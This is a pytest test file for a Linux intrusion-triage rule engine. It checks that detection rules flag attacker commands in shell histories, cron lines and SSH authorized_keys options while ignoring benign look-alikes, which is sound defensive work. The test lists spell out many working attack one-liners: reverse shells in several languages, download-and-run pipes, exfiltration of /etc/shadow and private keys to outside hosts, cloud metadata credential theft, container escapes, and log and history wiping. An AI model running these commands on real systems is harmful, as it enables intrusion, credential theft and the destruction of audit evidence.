"""The shipped command rules over records as the collectors make them: shell histories written the way bash
(HISTTIMEFORMAT, ``#<epoch>`` lines) and zsh (EXTENDED_HISTORY, ``: <epoch>:0;cmd``) write them and parsed by
collectors/files/histories.py, crontab lines through collectors/files/cron.py, authorized_keys lines
through collectors/files/ssh.py and the cross-view checks of findings.py. Each rule meets the behaviour,
written the many ways an intruder writes it, and its benign look-alikes; the histories of busy clean
servers (web, CI runner with Docker, database with backups, bastion) raise nothing above low."""

from __future__ import annotations

import subprocess
from collections.abc import Iterable
from pathlib import Path

import pytest

from agent.analysis import rules as engine
from collectors.files.cron import parse_crontab
from collectors.files.histories import parse_bash, parse_zsh
from collectors.files.ssh import parse_key_line
from collectors.util import utc

NOW = 1_800_000_000.0
T0 = int(NOW) - 3600
RULES = engine.load_rules()
SHIPPED = {r.id: r for r in RULES}
ALERTING = ("critical", "high", "medium")


def _history(commands: list[str], shell: str) -> list[dict]:
    """Records of a history file holding ``commands``, written and parsed as the shell does."""
    if shell == "bash":
        data = "".join(f"#{T0 + i}\n{c}\n" for i, c in enumerate(commands))
        records = list(parse_bash(data.encode()))
    else:
        data = "".join(f": {T0 + i}:0;{c}\n" for i, c in enumerate(commands))
        records = list(parse_zsh(data.encode()))
    for rec in records:
        rec["timestamp_utc"] = utc(rec.pop("timestamp"))
        rec.update(user="root", uid=0, shell=shell, kind=shell, path=f"/root/.{shell}_history")
    return records


def _run(rules: Iterable[engine.Rule], streams: dict[str, list[dict]]) -> list[dict]:
    def rows(source: str):
        for n, rec in enumerate(streams.get(source, []), 1):
            yield "source", f"triagent/streams/{source}.jsonl", n, rec
    return list(engine.evaluate(list(rules), rows, NOW))


def _hits(rule_id: str, records: list[dict], stream: str = "histories") -> list[dict]:
    return _run([SHIPPED[rule_id]], {stream: records})


# rule -> (what it must find, written as intruders write it; benign look-alikes it must leave alone)
HISTORY = {
    "TRI-CRED-001": ([
        "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        'TOKEN=$(curl -sX PUT "http://169.254.169.254/latest/api/token" '
        '-H "X-aws-ec2-metadata-token-ttl-seconds: 21600") && curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/iam/security-credentials/web',
        "curl -s http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/ec2-role",
        "wget -qO- http://2852039166/latest/meta-data/iam/security-credentials/admin",
        'curl -H "Metadata-Flavor: Google" '
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        'curl -s -H Metadata:true "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01'
        '&resource=https://management.azure.com/"',
        "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
        "python3 -c \"import urllib.request as u;print(u.urlopen('http://169.254.169.254/latest/meta-data/iam/"
        "security-credentials/x').read())\"",
    ], [
        "curl -s http://169.254.169.254/latest/meta-data/instance-id",
        'TOKEN=$(curl -X PUT "http://169.254.169.254/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 60")',
        'curl -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/zone',
        'curl -H Metadata:true "http://169.254.169.254/metadata/instance?api-version=2021-02-01"',
        "ec2-metadata --instance-id", "aws sts get-caller-identity",
    ]),
    "TRI-CRED-002": ([
        "cat /etc/shadow", "sudo cat /etc/shadow", "/bin/cat /etc/shadow > /tmp/s", "cp /etc/shadow /tmp/.s",
        "unshadow /etc/passwd /etc/shadow > hashes.txt", "base64 -w0 /etc/shadow", "base64 < /etc/shadow",
        "busybox cat /etc/shadow", "python3 -c \"print(open('/etc/shadow').read())\"",
        "tar czf /tmp/x.tgz /etc/passwd /etc/shadow", "getent shadow", "xxd /etc/shadow | head",
        "dd if=/etc/shadow of=/dev/shm/s", "curl -F f=@/etc/shadow http://198.51.100.7/u", "less /etc/gshadow",
        "cat /etc/sha''dow", "cat /e?c/sh?dow", "cat /etc/shad*", 'cat /etc/"shadow"', "cat /etc/sh\\adow",
        "python3 -c 'import spwd;print(spwd.getspall())'", "cat $(echo L2V0Yy9zaGFkb3c= | base64 -d)",
    ], [
        "ls -l /etc/shadow", "chmod 640 /etc/shadow", "chown root:shadow /etc/shadow", "stat /etc/shadow",
        "sha256sum /etc/shadow", "cp -a /etc/shadow /etc/shadow.bak", "cp -p /etc/shadow{,.orig}", "vipw -s",
        "passwd -S alice", "chage -l alice", "grep alice /etc/passwd", "pwck -r",
        "cat /etc/os-release", "ls /etc/s*", "tar czf /backup/etc.tgz /etc/*",
    ]),
    "TRI-CRED-003": ([
        "grep alice /etc/shadow", "awk -F: '$2 ~ /^\\$6/ {print $1\":\"$2}' /etc/shadow", "getent shadow alice",
    ], ["grep alice /etc/passwd", "getent passwd alice", "cut -d: -f1 /etc/passwd"]),
    "TRI-CRED-004": ([
        "john --wordlist=/usr/share/wordlists/rockyou.txt hashes.txt", "./john hashes", "sudo john --show /tmp/h",
        "/opt/john/run/john --format=sha512crypt h", "hashcat -m 1800 -a 0 h.txt rockyou.txt",
        "hydra -l root -P rockyou.txt ssh://10.0.0.5", "medusa -h 10.0.0.5 -u root -P pw.txt -M ssh",
        "nohup ./hydra -L u.txt -P p.txt 10.0.0.0/24 ssh &", "python3 laZagne.py all", "./mimipenguin.sh",
        "apt install -y john", "trufflehog filesystem /home", "gitleaks detect --source=/root --no-git",
    ], [
        "su john", "sudo -u john ls", "chown john:john /srv/app", "usermod -aG docker john", "ssh john@10.0.0.4",
        "cd /home/john", "passwd john", "hydra serve all --dev", "python train.py hydra.run.dir=/tmp/out",
        "gitleaks detect --source .", "trufflehog git https://github.com/corp/app",
        "gitleaks detect --source /home/dev/src/app",
    ]),
    "TRI-CRED-005": ([
        "tar czf /tmp/k.tgz ~/.ssh", "tar -czvf /dev/shm/x.tar.gz /home/*/.ssh /root/.ssh",
        "tar cf - .aws .kube | gzip > /tmp/c.gz", "zip -r /tmp/keys.zip /root/.ssh",
        "7z a /tmp/d.7z ~/.docker/config.json", "cp -r ~/.ssh /tmp/", "cp /root/.aws/credentials /var/www/html/c.txt",
        "tar --create --file=/tmp/a.tar /home/alice/.ssh/id_ed25519",
        "find / -name id_rsa -exec tar rvf /tmp/k.tar {} \\;", "cat ~/.ssh/id_rsa > /tmp/.k",
    ], [
        "tar czf backup.tgz /home/alice/projects", "tar czf etc.tgz /etc", "tar xzf dotfiles.tgz -C ~",
        "tar czf ssh-config.tgz /etc/ssh", "zip -r site.zip /var/www/html", "cp ~/.ssh/id_rsa.pub /tmp/",
        "mkdir -p ~/.ssh && chmod 700 ~/.ssh", "tar -C /srv -czf /backup/srv.tgz app",
        "cat ~/.ssh/id_rsa.pub > /tmp/pub", "tar tvf /tmp/k.tar .ssh",
    ]),
    "TRI-CRED-006": ([
        "cat ~/.ssh/id_rsa", "cat /root/.aws/credentials", "find / -name id_rsa 2>/dev/null",
        'find / -name "*.pem" -type f', 'grep -rl "PRIVATE KEY" /home 2>/dev/null', "locate id_rsa",
        "sudo cat /root/.ssh/id_* 2>/dev/null", "cat /home/*/.ssh/*",
    ], [
        "cat ~/.ssh/id_rsa.pub", "cat ~/.ssh/authorized_keys", "cat ~/.ssh/*.pub", 'find . -name "*.pem"',
        "grep -r password src/",
        "ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519",
    ]),
    "TRI-EXFIL-001": ([
        "curl -T dump.sql.gz ftp://203.0.113.7/", 'curl -F "file=@/var/backups/db.sql.gz" https://transfer.sh',
        "tar czf - /var/www | nc 198.51.100.7 9000", "nc 198.51.100.7 9000 < /tmp/db.sql",
        "cat app.log | curl -F 'f:1=<-' ix.io", "wget --post-file=/tmp/x.tgz http://203.0.113.7/up",
        "curl -sk -T /dev/shm/.c.tgz https://198.51.100.4:8443/", 'curl -d "$(cat /etc/hosts)" https://webhook.site/abc',
        "cat /tmp/db.sql > /dev/tcp/203.0.113.7/80", "rclone copy /srv/db.tgz x:b --s3-endpoint https://x.ngrok-free.app",
    ], [
        "scp user@203.0.113.9:/tmp/file .", "scp dump.sql backup01:/srv/", "rsync -a /srv/ 10.0.0.5:/srv/",
        "curl -X POST -d '{\"a\":1}' https://api.example.com/x", "curl -T x http://localhost:8080/",
        "curl --data-binary @body.json http://127.0.0.1:9200/_bulk", "curl -fsSL https://example.com/file -o file",
        "rsync -av /srv/ /mnt/backup/", "scp f user@db1.internal:/tmp/", "ssh admin@203.0.113.7",
        "ssh -i key u@203.0.113.7 uptime", "pg_dump db | ssh backup01 'cat > db.sql'", "echo > /dev/tcp/10.0.0.5/5432",
        "ssh u@203.0.113.7 uptime < /dev/null", "rsync -az /var/www/ backup@files.example.org:/srv/",
        "curl --data-binary @/tmp/out.tgz https://drop.example.net/u", "scp nginx.conf deploy@203.0.113.10:/etc/nginx/",
    ]),
    # deploys and backups with scp/rsync/ssh, and anything to a named host: servers do that every day
    "TRI-EXFIL-003": ([
        "rsync -az /var/backups/ backup@files.example.org:/srv/", "curl --data-binary @/tmp/out.tgz https://drop.example.net/u",
        "pg_dump appdb | ssh backup@offsite.example.com 'cat > appdb.sql'", "scp /tmp/db.tgz user@203.0.113.9:/tmp/",
        "tar czf - /srv/app | ssh u@203.0.113.7 'cat > a.tgz'", "ssh u@203.0.113.7 'cat > db.sql' < /tmp/db.sql",
        "rsync -az /var/www/ x@[2001:db8:4::7]:/srv/",
    ], ["rsync -a /srv/ 10.0.0.5:/srv/", "scp dump.sql backup01:/srv/", "curl -T dump.sql.gz ftp://203.0.113.7/"]),
    "TRI-EXFIL-002": ([
        "scp ~/.ssh/id_rsa user@203.0.113.9:", "curl -F f=@/root/.aws/credentials https://webhook.site/abc",
        "tar czf - ~/.ssh | curl -T - https://transfer.sh/k.tgz", "rsync -a /root/.ssh/ x@198.51.100.2:/tmp/k/",
        "cat /etc/shadow | nc 198.51.100.7 9001",
        'curl -d "$(cat ~/.aws/credentials)" https://webhook.site/x',
        "tar czf - ~/.ssh | ssh u@203.0.113.7 'cat > k.tgz'", "cat /etc/shadow > /dev/tcp/203.0.113.7/80",
    ], ["scp ~/.ssh/id_rsa.pub user@203.0.113.9:", "scp ~/.ssh/id_rsa user@10.0.0.5:",
        "scp /srv/report.pdf user@203.0.113.9:"]),
    "TRI-EXEC-001": ([
        "curl -s http://198.51.100.7/x.sh | bash", "curl -fsSL http://198.51.100.7:8080/i.sh | sudo bash",
        "wget -qO- https://pastebin.com/raw/abcd | sh", "curl -s https://abc-def.trycloudflare.com/x | bash",
        "curl -sL http://upd.example.xyz/a | sh", "busybox wget -O- http://192.0.2.2/a | busybox sh",
        "wget http://203.0.113.5/k -O /dev/shm/k; chmod +x /dev/shm/k; /dev/shm/k",
        "bash <(curl -s http://203.0.113.8/s)", "echo aGVsbG8= | base64 -d | sh",
        "curl -o /tmp/.x http://h/x && chmod +x /tmp/.x", "curl http://203.0.113.9:8000/p.py | python3",
        "cd /dev/shm; wget http://203.0.113.5/x; chmod 777 x; ./x", "tftp -g -r x 203.0.113.5; chmod +x x; ./x",
        "python3 -c \"import urllib.request as u;exec(u.urlopen('http://203.0.113.9/p').read())\"",
    ], [
        "curl -fsSL https://get.docker.com | sh", "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
        "wget -qO- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash",
        "curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -",
        "curl -sL https://aka.ms/InstallAzureCLIDeb | sudo bash", "curl https://some-vendor.io/install.sh | sh",
        "curl -s https://api.github.com/repos/x/y | python3 -m json.tool", "curl -s https://example.com/api",
        "wget http://mirror/file.iso", "base64 -d a.txt > b", "cat /etc/passwd | grep bash",
    ]),
    "TRI-EXEC-006": ([
        "wget -qO- http://x/y | sh", "wget -q -O - http://x/i.sh | sudo bash", "sh -c \"$(curl -fsSL http://h/i)\"",
        "curl https://some-vendor.io/install.sh | sh", "curl -sSL https://install.example.dev | python3 -",
        "wget https://example.org/tool; chmod +x tool", "wget https://example.org/tool && chmod 0755 tool",
    ], [
        "curl -fsSL https://get.docker.com | sh", "curl -s http://198.51.100.7/x.sh | bash",
        "curl -s https://api.github.com/repos/x/y | python3 -m json.tool",
        "curl -s https://api.example.com/v1 | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
        "wget https://example.org/data.csv; chmod 644 data.csv",
    ]),
    "TRI-EXEC-007": ([
        "curl -fsSL https://get.docker.com | sh", "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
        "wget -qO- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash",
        "curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -",
        "curl -sL https://aka.ms/InstallAzureCLIDeb | sudo bash",
        'sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"',
        "curl -sS https://getcomposer.org/installer | php", "curl https://rclone.org/install.sh | sudo bash",
        "curl -fsSL https://get.docker.com -o get-docker.sh && sudo sh get-docker.sh",
    ], ["curl -s http://198.51.100.7/x.sh | bash", "curl https://get.docker.com.evil.example/x | sh"]),
    "TRI-EXEC-008": ([
        "/dev/shm/.x", "nohup /dev/shm/kworker -c cfg &", "/tmp/.ICE-unix/.x/run", "bash /var/tmp/.cache/.s",
        "cd /tmp; /tmp/.kw",
    ], ["ls -la /dev/shm", "df -h /dev/shm", "bash /tmp/install.sh", "rm -rf /tmp/.X11-unix",
        "/tmp/go-build123/b001/exe/main"]),
    "TRI-EXEC-002": ([
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "bash -c 'bash -i >& /dev/tcp/203.0.113.4/443 0>&1'",
        "0<&196;exec 196<>/dev/tcp/203.0.113.4/4444; sh <&196 >&196 2>&196",
        "/bin/bash -l > /dev/tcp/203.0.113.4/443 0<&1 2>&1", "nc -e /bin/sh 192.0.2.1 4444",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.4 9 >/tmp/f",
        "telnet 203.0.113.4 80 | /bin/bash | telnet 203.0.113.4 81",
        "php -r '$sock=fsockopen(\"203.0.113.4\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
        "ruby -rsocket -e'f=TCPSocket.open(\"203.0.113.4\",4444).to_i;"
        "exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
        "perl -e 'use IO::Socket::INET;$c=new IO::Socket::INET(PeerAddr,\"203.0.113.4:443\");STDIN->fdopen($c,r);"
        "$~->fdopen($c,w);system$_ while<>;'",
        "node -e 'var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);"
        "var c=new net.Socket();c.connect(4444,\"203.0.113.4\")'",
        "gawk 'BEGIN {s=\"/inet/tcp/0/203.0.113.4/4444\"; while(42){ do{ printf \"$ \" |& s; s |& getline c; "
        "if(c){ while ((c |& getline) > 0) print $0 |& s; close(c)}} while(c != \"exit\") close(s)}}'",
    ], [
        "timeout 1 bash -c '</dev/tcp/10.0.0.5/5432' && echo open", "echo > /dev/tcp/localhost/8080 2>&1 && echo up",
        'exec 3<>/dev/tcp/example.com/80; echo -e "GET / HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3', "nc -zv 10.0.0.1 22",
    ]),
    "TRI-EXEC-005": ([
        "docker run -v /:/host -it alpine chroot /host sh", "docker run --rm -it -v /:/mnt alpine",
        "docker run -it --privileged --pid=host alpine nsenter -t 1 -m -u -n -i sh",
        "nsenter --target 1 --mount --uts --ipc --net --pid -- bash", "nsenter -a -t 1", "sudo nsenter -t1 -m -p sh",
        "sudo podman run -v /:/h:rw fedora",
        "docker run --mount type=bind,source=/,target=/host alpine",
        "docker run -v /etc:/mnt/etc alpine sh -c 'echo x >> /mnt/etc/passwd'",
        "ctr run --privileged --mount type=bind,src=/,dst=/host,options=rbind:rw docker.io/library/alpine:latest x sh",
        "curl -s --unix-socket /var/run/docker.sock -X POST -H 'Content-Type: application/json' "
        "-d '{\"Image\":\"alpine\",\"HostConfig\":{\"Binds\":[\"/:/host\"]}}' http://localhost/containers/create",
    ], [
        'docker run -d --net="host" --pid="host" -v "/:/host:ro,rslave" quay.io/prometheus/node-exporter '
        "--path.rootfs=/host",
        "docker run --volume=/:/rootfs:ro --volume=/var/run:/var/run:ro --volume=/sys:/sys:ro --privileged "
        "--device=/dev/kmsg gcr.io/cadvisor/cadvisor", "docker run -d -v /var/run/docker.sock:/var/run/docker.sock "
        "gitlab/gitlab-runner:latest", "docker run --privileged -d --name dind docker:dind",
        "nsenter -t 12345 -n ss -ltnp", "sudo nsenter -t 1 -m -- df -h", "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
        "docker run -v /srv/data:/data postgres:16", "docker run -v $(pwd):/app -w /app node:20 npm test",
        "docker run -v /etc/localtime:/etc/localtime:ro app", "docker run -v /etc/nginx:/etc/nginx:ro nginx",
        "docker run -v /etc:/host/etc:ro datadog/agent",
    ]),
    "TRI-EXEC-009": (["docker run -d --privileged --pid=host --net=host sysdig/agent"],
                     ['docker run -d --pid="host" -v "/:/host:ro,rslave" quay.io/prometheus/node-exporter']),
    "TRI-EVADE-001": ([
        "history -c", "unset HISTFILE", "unset HISTORY HISTFILE HISTSAVE", "export HISTFILE=/dev/null",
        "export HISTFILE=", "export HISTSIZE=0", "SAVEHIST=0", "export HISTIGNORE='*'", "set +o history",
        "rm -f ~/.bash_history", "cat /dev/null > ~/.bash_history", "ln -sf /dev/null /root/.bash_history",
        "shred -u /root/.zsh_history",
        "sed -i '/curl/d' ~/.bash_history", "kill -9 $$",
    ], [
        "history | tail", "echo $HISTFILE", "cat ~/.bash_history", "history -w", "export HISTCONTROL=ignoreboth",
        'echo "ls" >> ~/.bash_history', "grep ssh ~/.bash_history", "export HISTSIZE=10000",
        "export HISTFILE=~/.bash_history_root",
        "kill -9 1234",
    ]),
    "TRI-EVADE-009": ([
        "rm -rf /var/log/*", "rm -f /var/log/auth.log", "shred -zu /var/log/secure", "truncate -s 0 /var/log/syslog",
        "> /var/log/auth.log", "cat /dev/null > /var/log/wtmp", "echo > /var/log/lastlog",
        "echo 0>/var/spool/mail/root", "find /var/log -type f -delete",
        "find /var/log -type f -exec truncate -s0 {} \\;",
        "sed -i '/203.0.113.9/d' /var/log/auth.log", "journalctl --rotate && journalctl --vacuum-time=1s",
        "journalctl --vacuum-size=1K", "rm -rf /var/log/journal/*", "utmpdump -r < /tmp/w > /var/log/wtmp",
        "sudo sh -c '> /var/log/secure'", "cp /dev/null /var/log/btmp", "ln -sf /dev/null /var/log/auth.log",
        "for f in /var/log/*.log; do > $f; done", "ls /var/log/*.log | xargs truncate -s0", "rm -rf /var/log",
        "python3 -c \"open('/var/log/auth.log','w').close()\"", "perl -e 'truncate(\"/var/log/secure\", 0)'",
    ], [
        "rm /var/log/nginx/access.log.2.gz", "rm -f /var/log/*.gz", "rm /var/log/syslog.1",
        "rm /var/log/messages-20261101", 'find /var/log -name "*.gz" -mtime +30 -delete',
        "find /var/log -type f -mtime +90 -delete", "journalctl --vacuum-size=500M", "journalctl --vacuum-time=2weeks",
        "tail -f /var/log/syslog", 'echo "test" >> /var/log/app.log', "./app > /var/log/app.log 2>&1",
        "ls -la /var/log", "logrotate -f /etc/logrotate.conf", "grep sshd /var/log/auth.log > /tmp/ssh.txt",
        'find /var/log -name "*.gz" | xargs rm', "for f in /var/log/nginx/*.log; do wc -l $f; done",
        "python3 -c \"print(open('/var/log/auth.log').read()[-500:])\"",
    ]),
    "TRI-EVADE-012": (["journalctl --vacuum-size=500M", "journalctl --vacuum-time=2d"],
                      ["journalctl --vacuum-time=1s", "journalctl -u nginx --since today"]),
    "TRI-EVADE-010": ([
        "systemctl stop rsyslog", "sudo systemctl disable --now auditd", "systemctl mask systemd-journald.service",
        "service auditd stop", "/etc/init.d/rsyslog stop", "pkill -9 rsyslogd", "kill -9 $(pidof auditd)",
        "killall -9 systemd-journald", "auditctl -e 0", "apt-get purge -y auditd", "systemctl stop falcon-sensor",
        "pkill -f rsyslog",
    ], [
        "systemctl restart rsyslog", "systemctl status auditd", "service rsyslog reload",
        "systemctl kill -s HUP rsyslog.service", "pkill -HUP rsyslogd", "killall -USR1 systemd-journald",
        "systemctl stop nginx", "auditctl -l", "apt install auditd",
    ]),
    "TRI-DISC-001": ([
        "curl -L https://github.com/peass-ng/PEASS-ng/releases/latest/download/linpeas.sh | sh", "./linpeas.sh -a",
        "./pspy64", "./LinEnum.sh -t", "./cdk_linux_amd64 evaluate --full",
    ], ["cdk deploy --all", "npx cdk synth", "ls -la"]),
    "TRI-DISC-002": ([
        "masscan -p1-65535 10.0.0.0/8 --rate 10000", "nmap -sS 10.0.0.0/24", "nmap -p- 10.0.0.5",
        "./fscan -h 192.168.1.0/24",
    ], ["nmap -p 22 10.0.0.5", "nmap -sV db1", "ping -c1 10.0.0.1"]),
}


@pytest.mark.parametrize("shell", ["bash", "zsh"])
@pytest.mark.parametrize("rule_id", sorted(HISTORY))
def test_history_rules(rule_id, shell):
    hits, misses = HISTORY[rule_id]
    for command in hits:
        records = _history(["ls -la", command, "exit"], shell)
        found = _hits(rule_id, records)
        assert len(found) == 1, f"{rule_id} misses ({shell}): {command}"
        assert found[0]["evidence"][0]["line"] == 2 and command[:100] in found[0]["summary"]
    for command in misses:
        assert not _hits(rule_id, _history([command], shell)), f"{rule_id} false positive: {command}"


def test_search_strings_and_file_lists_are_not_commands():
    """less and vim keep searches and the files they opened: '/etc/shadow' searched for is no read of it."""
    records = [{"line": 1, "command": "cat /etc/shadow", "kind": "less-search", "user": "root"},
               {"line": 2, "command": "/etc/shadow", "kind": "vim-file-history", "user": "root"},
               {"line": 3, "command": "curl -s http://198.51.100.7/x.sh | bash", "kind": "vim-search", "user": "root"}]
    assert not _run(RULES, {"histories": records})
    records[0]["kind"] = "less-shell"  # !cat /etc/shadow typed at less's prompt does run it
    assert [f["rule"] for f in _run(RULES, {"histories": records})] == ["TRI-CRED-002"]


def test_multi_line_bash_entry():
    """A bash entry spanning lines (a loop) is one record, and a rule sees all of it."""
    data = (f"#{T0}\nfor h in $(cat hosts); do\n  scp ~/.ssh/id_rsa root@$h.example.net:\ndone\n"
            f"#{T0 + 1}\nls\n").encode()
    records = list(parse_bash(data))
    for rec in records:
        rec.update(user="root", kind="bash")
    found = _run([SHIPPED["TRI-EXFIL-002"]], {"histories": records})
    assert records[0]["lines"] == 3 and records[0]["timestamp"] == T0
    assert len(found) == 1 and found[0]["evidence"][0]["line"] == 1 and "example.net" in found[0]["summary"]


CRON = {
    "TRI-PERSIST-004": ([
        "@reboot root /var/tmp/.sysupdate --daemon", "*/5 * * * * root /dev/shm/.x >/dev/null 2>&1",
        "* * * * * root cd /tmp && ./kworker", "@reboot root /usr/lib/.cache/dbus-daemon",
        "*/10 * * * * root sh /tmp/x.sh", "@reboot root /root/.x", "* * * * * root nohup /var/tmp/x &",
    ], [
        "0 2 * * * root /usr/local/bin/backup.sh > /tmp/backup.log 2>&1",
        "0 4 * * * root find /tmp/ -type f -mtime +7 -delete",
        '0 0 * * * root "/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null',
        "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
        "0 3 * * * postgres . /var/lib/postgresql/.profile; pg_dumpall > /var/backups/pg.sql",
        "*/5 * * * * www-data cd /var/www/app && /usr/bin/php artisan schedule:run",
        "0 1 * * * alice /home/alice/.local/bin/certbot renew",
    ]),
    "TRI-EXEC-001": (["*/10 * * * * root (curl -fsSL http://203.0.113.7/b.sh || wget -qO- http://203.0.113.7/b) | sh"],
                     ["0 5 * * * root curl -fsS https://hc-ping.com/abcd > /dev/null"]),
    "TRI-EVADE-010": (["@reboot root systemctl stop auditd"], ["0 0 * * * root systemctl restart rsyslog"]),
    "TRI-CRED-001": (["*/30 * * * * root curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/r"
                      " > /tmp/.c"], ["*/5 * * * * root curl -s http://169.254.169.254/latest/meta-data/instance-id"]),
}


@pytest.mark.parametrize("rule_id", sorted(CRON))
def test_cron_rules(rule_id):
    hits, misses = CRON[rule_id]
    for line in hits:
        records = list(parse_crontab(line.encode(), "/etc/cron.d/x", True, None))
        assert len(_hits(rule_id, records, "cron")) == 1, f"{rule_id} misses: {line}"
    for line in misses:
        records = list(parse_crontab(line.encode(), "/etc/cron.d/x", True, None))
        assert not _hits(rule_id, records, "cron"), f"{rule_id} false positive: {line}"


@pytest.fixture(scope="module")
def public_key(tmp_path_factory) -> str:
    path = tmp_path_factory.mktemp("keys") / "k"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "ops@corp", "-f", str(path)], check=True,
                   stdin=subprocess.DEVNULL)
    return Path(str(path) + ".pub").read_text().strip()


def _key(options: str, key: str, user: str = "alice") -> dict:
    rec = parse_key_line(f"{options} {key}".strip())
    assert rec is not None
    home = "/root" if user == "root" else f"/home/{user}"
    return {**rec, "kind": "authorized_keys", "user": user, "path": f"{home}/.ssh/authorized_keys",
            "file_mtime_ns": int((NOW - 3 * 86400) * 1e9)}


KEY_OPTIONS = ([
    'command="/tmp/.x; exec $SHELL"',
    'command="nohup curl -s http://203.0.113.9/a | sh >/dev/null 2>&1 & exec bash -l"',
    'environment="LD_PRELOAD=/usr/lib/.libsys.so"',
    'command="/usr/local/bin/.helper;$SHELL"',
    'no-pty,command="/usr/bin/env bash -c \\"bash -i >& /dev/tcp/203.0.113.4/443 0>&1 & exec $SHELL\\""',
], [
    'from="10.0.0.0/8"', 'command="/usr/bin/rrsync -ro /srv/backup",restrict',
    'no-port-forwarding,no-agent-forwarding,no-X11-forwarding,command="echo \'Please login as the user \\"ubuntu\\" '
    'rather than the user \\"root\\".\';echo;sleep 10;exit 142"',
    'command="/opt/gitlab/embedded/service/gitlab-shell/bin/gitlab-shell key-42",no-port-forwarding,'
    'no-X11-forwarding,no-agent-forwarding,no-pty', 'command="internal-sftp"', "restrict,port-forwarding",
    'command="borg serve --restrict-to-path /srv/borg/host1",restrict', 'environment="GIT_AUTHOR_NAME=alice"',
    'command="/usr/bin/backup --run \\"nightly\\"",no-pty,from="10.0.0.0/8,192.168.1.1"', "",
])


def test_ssh_key_options(public_key):
    hits, misses = KEY_OPTIONS
    for options in hits:
        assert len(_hits("TRI-PERSIST-002", [_key(options, public_key)], "ssh_keys")) == 1, options
    for options in misses:
        assert not _hits("TRI-PERSIST-002", [_key(options, public_key)], "ssh_keys"), options


def test_recent_and_root_keys_are_low(public_key):
    """A key added this week, or the provisioning key on root, is inventory (low), not suspicion."""
    plain = _key("", public_key, "root")
    cloud_init = dict(_key(KEY_OPTIONS[1][2], public_key, "root"), path="/root/.ssh/authorized_keys2")
    found = _run(RULES, {"ssh_keys": [plain, cloud_init]})
    assert sorted((f["rule"], f["severity"], f["path"]) for f in found) == [
        ("TRI-PERSIST-001", "low", "/root/.ssh/authorized_keys"),
        ("TRI-PERSIST-001", "low", "/root/.ssh/authorized_keys2"),
        ("TRI-PERSIST-003", "low", "/root/.ssh/authorized_keys")], found
    assert SHIPPED["TRI-PERSIST-005"].severity == "low"


def _check(kind: str, **facts) -> dict:
    """A built-in check's record: what it saw, graded by no one yet (findings.UNGRADED)."""
    return {"kind": kind, "severity": "info", "summary": f"{kind} {facts}", "evidence": [], **facts}


@pytest.mark.parametrize("check, rule, severity", [
    (_check("deleted_executable", exe="/tmp/.x/kworker", pid=7), "TRI-PROC-002", "high"),
    (_check("deleted_executable", exe="/home/bob/.cache/agent", pid=7), "TRI-PROC-002", "high"),
    (_check("deleted_executable", exe="/usr/sbin/nginx", pid=8), "TRI-PROC-007", "low"),
    (_check("deleted_executable", exe="/usr/lib/postgresql/16/bin/postgres", pid=9), "TRI-PROC-007", "low"),
    (_check("writable_place_executable", exe="/dev/shm/x", pid=7), "TRI-PROC-003", "medium"),
    (_check("writable_place_executable", exe="/tmp/go-build123/b001/exe/main", pid=7), "TRI-PROC-008",
     "info"),
    (_check("module_not_installed", module_tree_present=True, module="diamorphine"), "TRI-KERN-002", "high"),
    (_check("module_not_installed", module_tree_present=True, module="falcon_lsm_serviceable"), "TRI-KERN-007", "low"),
    (_check("module_not_installed", module_tree_present=False, module="ext4", taint=""), "TRI-KERN-007", "low"),
    (_check("module_not_installed", module_tree_present=False, module="dummy", taint="OE"), "TRI-KERN-008", "medium"),
    (_check("module_unsigned_or_out_of_tree", module="zfs"), "TRI-KERN-003", "low"),
    (_check("ld_preload_environment", pid=4, environment={"LD_PRELOAD": "/dev/shm/.l.so"}), "TRI-EVADE-013",
     "high"),
    (_check("ld_preload_environment", pid=4, environment={"LD_PRELOAD": "/usr/local/lib/libhook.so"}),
     "TRI-EVADE-006", "medium"),
    (_check("ld_preload_environment", pid=5,
            environment={"LD_PRELOAD": "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"}), "TRI-EVADE-014", "info"),
    (_check("ld_preload_environment", pid=5, environment={
        "LD_PRELOAD": "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2:/usr/lib/libx.so"}), "TRI-EVADE-006", "medium"),
    (_check("shell_command_only_in_memory", pid=9, command="vi /etc/hosts"), "TRI-EVADE-004", "low"),
    (_check("login_log_tampering", log="/var/log/wtmp", zeroed=1), "TRI-EVADE-008", "high"),
    (_check("login_log_tampering", log="/var/log/wtmp"), "TRI-EVADE-011", "medium"),
])
def test_host_checks(check, rule, severity):
    found = _run(RULES, {"findings": [check]})
    assert [(f["rule"], f["severity"]) for f in found] == ([(rule, severity)] if rule else []), found


RECENT, OLD = int((NOW - 3600) * 1e9), int((NOW - 40 * 86400) * 1e9)


